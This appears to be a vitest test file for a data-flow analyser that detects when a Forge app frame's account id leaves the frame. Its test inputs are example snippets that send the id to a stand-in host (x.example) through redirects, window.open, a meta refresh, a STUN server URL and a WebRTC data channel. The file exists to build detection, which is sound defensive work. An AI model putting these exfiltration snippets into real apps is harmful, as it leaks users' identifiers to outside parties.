import { expect, test } from 'vitest'
import { analysed } from '../flow/sample.ts'

const followed = (statement: string) =>
  analysed('frame', {
    'src/index.js': `import { view } from '@forge/bridge'
view.getContext().then(({ accountId: id }) => { ${statement} })
`,
  })

/** Through what an account's id leaves a frame. */
const leaves = (statement: string) =>
  followed(statement)
    .flows.filter(({ sink, label }) => sink === 'egress' && label === 'accountId')
    .map(({ api }) => api)

test('an address that a frame goes to is a way out of its own', () => {
  expect(leaves('location.href = "https://x.example/?" + id')).toEqual(['location'])
  expect(leaves('location.assign("https://x.example/?" + id)')).toEqual(['location'])
  expect(leaves('window.open("https://x.example/?" + id)')).toEqual(['window.open'])
})

test('a meta element that makes the page go elsewhere is one, and what else it holds isn’t', () => {
  expect(leaves('document.createElement("meta").content = "0; url=https://x.example/?" + id')).toEqual([
    'location',
  ])
  expect(
    leaves('document.createElement("meta").setAttribute("content", "0;url=https://x.example/?" + id)'),
  ).toEqual(['element.setAttribute'])
  expect(leaves('document.createElement("meta").content = "width=" + id')).toEqual([])
})

test('a connection to another browser is one in its servers, its channels and its answers, and opens the program', () => {
  expect(leaves('new RTCPeerConnection({ iceServers: [{ urls: "stun:" + id + ".x.example" }] })')).toEqual([
    'RTCPeerConnection',
  ])
  expect(leaves('new RTCPeerConnection().createDataChannel("a").send(id)')).toEqual(['RTCDataChannel.send'])
  const { openings } = followed('new RTCPeerConnection()')
  expect(openings.map(({ code }) => code)).toEqual(['PEER_CONNECTION'])
})
